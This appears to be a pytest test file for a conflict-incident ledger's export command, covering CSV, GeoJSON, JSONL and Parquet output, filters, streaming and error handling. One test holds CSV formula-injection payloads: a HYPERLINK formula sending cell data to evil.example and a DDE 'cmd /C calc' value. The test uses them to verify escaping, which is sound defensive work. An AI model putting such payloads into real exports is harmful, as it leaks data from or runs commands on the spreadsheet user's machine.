"""`sitrep export`: ACLED CSV, GeoJSON, JSON Lines and Parquet, with filters; ledger queries."""

from __future__ import annotations

import builtins
import csv
import datetime as dt
import io
import json

import pytest
from backends import BACKENDS, fresh_ledger_url
from ledger_samples import LOCATED, TOTAL, build_sample_ledger
from typer.testing import CliRunner

from sitrep.cli import app
from sitrep.exports import ACLED_COLUMNS, ExportError, incidents_parquet

runner = CliRunner()


@pytest.fixture(scope="module")
def db(tmp_path_factory):
    path = tmp_path_factory.mktemp("export") / "ledger.db"
    build_sample_ledger(str(path)).close()
    return str(path)


def run(*args: str):
    result = runner.invoke(app, list(args))
    return result


def test_acled_csv_to_stdout(db):
    result = run("export", "--db", db)
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert rows[0] == ACLED_COLUMNS
    assert len(rows) == 1 + TOTAL - 1  # the undated incident has no ACLED row ...
    assert "XX-unplaced" not in result.stdout
    assert "1 undated incident left out" in result.stderr  # ... and standard error says so


def test_filters_and_file_output(db, tmp_path):
    out = tmp_path / "sy.csv"
    result = run("export", "--db", db, "--format", "acled-csv", "--country", "sy", "--min-killed", "50",
                 "-o", str(out))
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    assert [r["event_id_cnty"] for r in rows] == ["SYR-20160523-jableh"]
    result = run("export", "--db", db, "--bbox", "170,-30,-170,0", "--format", "jsonl")
    assert [json.loads(line)["id"] for line in result.stdout.splitlines()] == ["FJI-20230714-suva"]
    result = run("export", "--db", db, "--actor", "islamic", "--sort", "-killed", "--format", "jsonl")
    assert [json.loads(line)["id"] for line in result.stdout.splitlines()] == [
        "SYR-20160523-jableh", "SYR-20160523-tartus",
    ]
    result = run("export", "--db", db, "-q", "tear gas", "--format", "jsonl", "--event-type", "Protests")
    assert [json.loads(line)["id"] for line in result.stdout.splitlines()] == ["NGA-20260304-kano"]


def test_geojson_and_jsonl(db):
    result = run("export", "--db", db, "--format", "geojson")
    assert result.exit_code == 0
    assert len(json.loads(result.stdout)["features"]) == LOCATED
    result = run("export", "--db", db, "--format", "jsonl", "--type", "Suicide bomb")
    records = [json.loads(line) for line in result.stdout.splitlines()]
    assert {r["id"] for r in records} == {"SYR-20160523-jableh", "SYR-20160523-tartus"}
    assert records[0]["figures"] and records[0]["evidence"]


def test_bad_options(db):
    assert run("export", "--db", db, "--bbox", "1,2").exit_code == 2
    assert run("export", "--db", db, "--since", "May").exit_code == 2
    assert run("export", "--db", db, "--sort", "size").exit_code == 2
    result = run("export", "--db", db, "--format", "parquet")
    assert result.exit_code == 2 and "-o" in result.output


def test_parquet_round_trip(db, tmp_path):
    pq = pytest.importorskip("pyarrow.parquet", reason="pyarrow is the optional extra sitrep[parquet]")
    out = tmp_path / "incidents.parquet"
    result = run("export", "--db", db, "--format", "parquet", "-o", str(out))
    assert result.exit_code == 0, result.output
    table = pq.read_table(out)
    assert table.column_names == ACLED_COLUMNS
    assert table.num_rows == TOTAL
    rows = {r["event_id_cnty"]: r for r in table.to_pylist()}
    assert rows["SYR-20160523-jableh"]["fatalities"] == 100
    assert str(rows["SYR-20160523-jableh"]["event_date"]) == "2016-05-23"
    assert rows["XX-unplaced"]["latitude"] is None


def test_parquet_without_pyarrow_says_how_to_get_it(db, tmp_path, monkeypatch):
    real_import = builtins.__import__

    def no_pyarrow(name, *args, **kwargs):
        if name == "pyarrow" or name.startswith("pyarrow."):
            raise ImportError("No module named 'pyarrow'")
        return real_import(name, *args, **kwargs)

    monkeypatch.setattr(builtins, "__import__", no_pyarrow)
    with pytest.raises(ExportError, match=r"sitrep\[parquet\]"):
        incidents_parquet([], tmp_path / "x.parquet")
    result = run("export", "--db", db, "--format", "parquet", "-o", str(tmp_path / "y.parquet"))
    assert result.exit_code == 2
    assert "pyarrow" in result.output and "sitrep[parquet]" in result.output
    assert not (tmp_path / "y.parquet").exists()


def test_ledger_queries_stay_backward_compatible(db):
    from sitrep.store.ledger import Ledger

    with Ledger(db) as ledger:
        everything = ledger.incidents()
        assert len(everything) == TOTAL
        assert [i.id for i in ledger.incidents(limit=2)] == [i.id for i in everything[:2]]
        assert {i.id for i in ledger.incidents(country="SY", sub_event_type="Suicide bomb")} == {
            "SYR-20160523-jableh", "SYR-20160523-tartus",
        }
        assert ledger.count_incidents() == TOTAL
        assert ledger.count_incidents(country="UA") == 1
        assert ledger.stats(country="UA")["killed"] == 10
        with pytest.raises(ValueError, match="sort"):
            ledger.incidents(sort="sideways")


def test_serve_needs_an_existing_ledger(tmp_path):
    result = run("serve", "--db", str(tmp_path / "missing.db"))
    assert result.exit_code == 1
    assert "No ledger" in result.output


# ------------------------------------------------------------------ streaming exports, on both backends


def fill_synthetic(ledger, count: int, *, first: int = 0) -> None:
    """Insert `count` synthetic incidents in bulk (one report, figure and evidence sentence each).

    Dates, tolls and places repeat, with unknowns (None), so sort orders have long runs of ties."""
    from sqlalchemy import insert

    from sitrep.store.schema import ArticleRow, EvidenceRow, FigureRow, IncidentArticleRow, IncidentRow

    now = dt.datetime.now(dt.timezone.utc)
    days = [dt.date(2020, 1, 1), None, dt.date(2019, 6, 30), dt.date(2020, 1, 1)]
    tolls = [5, None, 0, 5, 12]
    sentence = "Gunmen attacked a convoy near the town on the road to the market, killing {k} people, officials said. "
    articles, incidents, links, evidence, figures = [], [], [], [], []
    for n in range(first, first + count):
        iid, aid = f"SYN-{n:06d}", f"synart{n:010d}"
        day, killed = days[n % len(days)], tolls[n % len(tolls)]
        text = sentence.format(k=killed if killed is not None else "several") * 3
        articles.append(dict(id=aid, content_hash=f"synthetic-{n}", title=f"Report {n}", url=None, published=day,
                             text=text, ingested_at=now, source_id=None))
        incidents.append(dict(
            id=iid, event_type="Violence against civilians", sub_event_type="Attack", date=day,
            date_precision="day" if day else None, location_name=f"Town{n % 7}", lat=10 + n % 7, lon=-3.5 - n % 5,
            country_code="BF", admin1="Centre", location_precision="town", killed_low=killed, killed_best=killed,
            killed_high=killed, perpetrators=[{"name": "Gunmen", "basis": "reported"}], targets=[], victims=[],
            weapons=[], related=[], target_types=[], suicide=False, created_at=now, updated_at=now,
        ))
        links.append(dict(incident_id=iid, article_id=aid))
        evidence.append(dict(incident_id=iid, article_id=aid, field="event", start=0, end=len(text), text=text))
        if killed is not None:
            figures.append(dict(incident_id=iid, article_id=aid, kind="killed", value=killed, qualifier="exact",
                                reported_by="officials", quote=text[:60], start=0, end=60))
    with ledger._sessions.begin() as session:
        for model, rows in ((ArticleRow, articles), (IncidentRow, incidents), (IncidentArticleRow, links),
                            (EvidenceRow, evidence), (FigureRow, figures)):
            if rows:
                session.execute(insert(model), rows)


@pytest.fixture(scope="module", params=BACKENDS)
def sample_url(request, tmp_path_factory):
    """The sample ledger on SQLite and on PostgreSQL (its URL: the CLI opens it itself)."""
    url = fresh_ledger_url(request, tmp_path_factory.mktemp("export-backends"))
    build_sample_ledger(url).close()
    return url


@pytest.fixture(scope="module", params=BACKENDS)
def ties_ledger(request, tmp_path_factory):
    """The sample ledger and 45 synthetic incidents with many equal dates and tolls and unknowns."""
    from sitrep.store.ledger import Ledger

    url = fresh_ledger_url(request, tmp_path_factory.mktemp("export-ties"))
    build_sample_ledger(url).close()
    ledger = Ledger(url)
    fill_synthetic(ledger, 45)
    yield ledger
    ledger.close()


@pytest.mark.parametrize("sort", ["-date", "date", "-killed", "killed"])
@pytest.mark.parametrize("page_size", [1, 2, 3, 7, 500])
def test_iter_incidents_pages_in_the_order_of_incidents(ties_ledger, sort, page_size):
    expected = ties_ledger.incidents(sort=sort)
    got = list(ties_ledger.iter_incidents(sort=sort, page_size=page_size))
    assert [i.id for i in got] == [i.id for i in expected]
    if page_size == 7:
        assert got == expected  # the full records
    filters = dict(min_killed=1, since=dt.date(2019, 7, 1))
    assert [i.id for i in ties_ledger.iter_incidents(sort=sort, page_size=page_size, **filters)] == [
        i.id for i in ties_ledger.incidents(sort=sort, **filters)
    ]


def _old_acled_csv(incidents) -> str:
    """ACLED CSV as it was written before exports streamed (csv.DictWriter over a list; dated incidents)."""
    from sitrep.exports import acled_rows

    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=ACLED_COLUMNS, lineterminator="\n")
    writer.writeheader()
    for row in acled_rows(list(incidents)):
        writer.writerow({k: "" if v is None else v for k, v in row.items()})
    return buffer.getvalue()


def test_streamed_exports_are_byte_identical_to_the_whole_ones(sample_url, tmp_path):
    from sitrep.formats import incidents_geojson
    from sitrep.store.ledger import Ledger

    with Ledger(sample_url) as ledger:
        for sort in ("-date", "killed"):
            incidents = ledger.incidents(sort=sort)
            expected = {
                "acled-csv": _old_acled_csv(incidents),
                "geojson": incidents_geojson(incidents) + "\n",
                "jsonl": "".join(json.dumps(i.model_dump(mode="json"), ensure_ascii=False) + "\n" for i in incidents),
            }
            for fmt, text in expected.items():
                result = run("export", "--db", sample_url, "--format", fmt, "--sort", sort)
                assert result.exit_code == 0, result.output
                assert result.stdout == text, fmt
                out = tmp_path / f"x.{fmt}"
                result = run("export", "--db", sample_url, "--format", fmt, "--sort", sort, "-o", str(out))
                assert result.exit_code == 0, result.output
                assert out.read_bytes() == text.encode("utf-8"), fmt
                written = {"acled-csv": TOTAL - 1, "geojson": LOCATED, "jsonl": TOTAL}[fmt]
                assert f"{written} incidents written" in result.output
    assert sorted(p.name for p in tmp_path.iterdir()) == ["x.acled-csv", "x.geojson", "x.jsonl"]  # no leftovers


def test_export_to_a_missing_folder_is_a_one_line_error(sample_url, tmp_path):
    target = tmp_path / "missing" / "dir" / "x.csv"
    result = run("export", "--db", sample_url, "-o", str(target))
    assert result.exit_code == 2
    assert "Traceback" not in result.output and not isinstance(result.exception, OSError)
    lines = result.output.strip().splitlines()
    assert len(lines) == 1 and "cannot write" in lines[0] and str(target) in result.output.replace("\n", "")
    assert not target.parent.exists()
    folder = tmp_path / "a-folder"
    folder.mkdir()
    result = run("export", "--db", sample_url, "-o", str(folder))
    assert result.exit_code == 2 and "cannot write" in result.output
    assert list(folder.iterdir()) == [] and [p.name for p in tmp_path.iterdir()] == ["a-folder"]
    result = run("export", "--db", sample_url, "-o", ".")
    assert result.exit_code == 2 and "cannot write .: Is a directory" in result.output


def test_an_export_that_fails_half_way_leaves_no_file(sample_url, tmp_path, monkeypatch):
    from sitrep.store.ledger import Ledger

    real = Ledger.iter_incidents

    def breaks(self, **kwargs):
        iterator = real(self, **kwargs)
        yield next(iterator)
        raise RuntimeError("the database went away")

    monkeypatch.setattr(Ledger, "iter_incidents", breaks)
    kept = tmp_path / "kept.jsonl"
    kept.write_text("the previous export\n")
    for name, fmt in (("new.csv", "acled-csv"), ("kept.jsonl", "jsonl"), ("new.geojson", "geojson")):
        result = run("export", "--db", sample_url, "--format", fmt, "-o", str(tmp_path / name))
        assert result.exit_code != 0 and isinstance(result.exception, RuntimeError)
    assert kept.read_text() == "the previous export\n"
    assert [p.name for p in tmp_path.iterdir()] == ["kept.jsonl"]  # no half file, no temporary


def test_exported_file_has_the_usual_permissions(db, tmp_path):
    import os
    import stat

    umask = os.umask(0o022)
    os.umask(umask)
    out = tmp_path / "x.csv"
    assert run("export", "--db", db, "-o", str(out)).exit_code == 0
    assert stat.S_IMODE(out.stat().st_mode) == 0o666 & ~umask


def test_min_killed_beyond_any_toll_is_a_usage_error(db):
    result = run("export", "--db", db, "--min-killed", "99999999999999999999")
    assert result.exit_code == 2 and "Traceback" not in result.output


def test_csv_exports_escape_formulas(tmp_path):
    """A report's source (or any text) beginning with a formula trigger is written as text."""
    from sitrep.records import Actor, Article, Evidence, Extraction, Incident, Place, Range
    from sitrep.store.ledger import Ledger

    source = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    article = Article.from_text("@SUM(1+1) Gunmen killed 4 people in Bobo.", source=source,
                                published=dt.date(2024, 2, 2))
    incident = Incident(
        id="BFA-formula", event_type="Violence against civilians", sub_event_type="Attack",
        date=dt.date(2024, 2, 1), date_precision="day",
        location=Place(name="-Bobo", lat=11.18, lon=-4.3, country_code="BF", precision="town"),
        killed=Range(low=4, best=4, high=4), articles=[article.id],
        perpetrators=[Actor(name="+cmd|' /C calc'!A0")],
        evidence=[Evidence(field="event", article_id=article.id, start=0, end=41, text=article.text)],
    )
    path = tmp_path / "formula.db"
    with Ledger(str(path)) as ledger:
        ledger.add(article, Extraction(incidents=[incident]))
    for args in (["export", "--format", "acled-csv"], ["incidents", "--format", "csv"]):
        result = run(*args, "--db", str(path))
        assert result.exit_code == 0, result.output
        row = next(csv.DictReader(io.StringIO(result.stdout)))
        assert row["source"] == "'" + source
        assert row["actor1"] == "'+cmd|' /C calc'!A0"
        assert row["location"] == "'-Bobo"
        assert row["longitude"] == "-4.3"
        if args[0] == "incidents":
            assert row["notes"] == "'" + article.text  # the evidence sentence
        else:  # ACLED notes are written for the incident, and name the place as stored
            assert row["notes"].startswith("On 1 February 2024, an attack by +cmd") and "in -Bobo" in row["notes"]


def test_cli_export_memory_does_not_grow_with_the_ledger(tmp_path, monkeypatch):
    """Exporting 5 times as many incidents takes about the same peak memory (streamed, in pages of
    50 here so that both ledgers span several pages)."""
    import tracemalloc

    from sitrep.store.ledger import Ledger

    paged = getattr(Ledger, "iter_incidents", None)
    monkeypatch.setattr(Ledger, "iter_incidents", lambda self, **kw: paged(self, **{**kw, "page_size": 50}),
                        raising=False)
    peaks = {}
    for count in (200, 1000):
        path = tmp_path / f"big-{count}.db"
        with Ledger(str(path)) as ledger:
            fill_synthetic(ledger, count)
        for fmt in ("acled-csv", "geojson", "jsonl"):
            out = tmp_path / f"out-{count}.{fmt}"
            tracemalloc.start()
            result = run("export", "--db", str(path), "--format", fmt, "-o", str(out))
            _, peak = tracemalloc.get_traced_memory()
            tracemalloc.stop()
            assert result.exit_code == 0, result.output
            written = count - count // 4 if fmt == "acled-csv" else count  # one in four is undated
            assert f"{written} incidents written" in result.output
            peaks[count, fmt] = peak
    for fmt in ("acled-csv", "geojson", "jsonl"):
        assert peaks[1000, fmt] < 1.5 * peaks[200, fmt], peaks
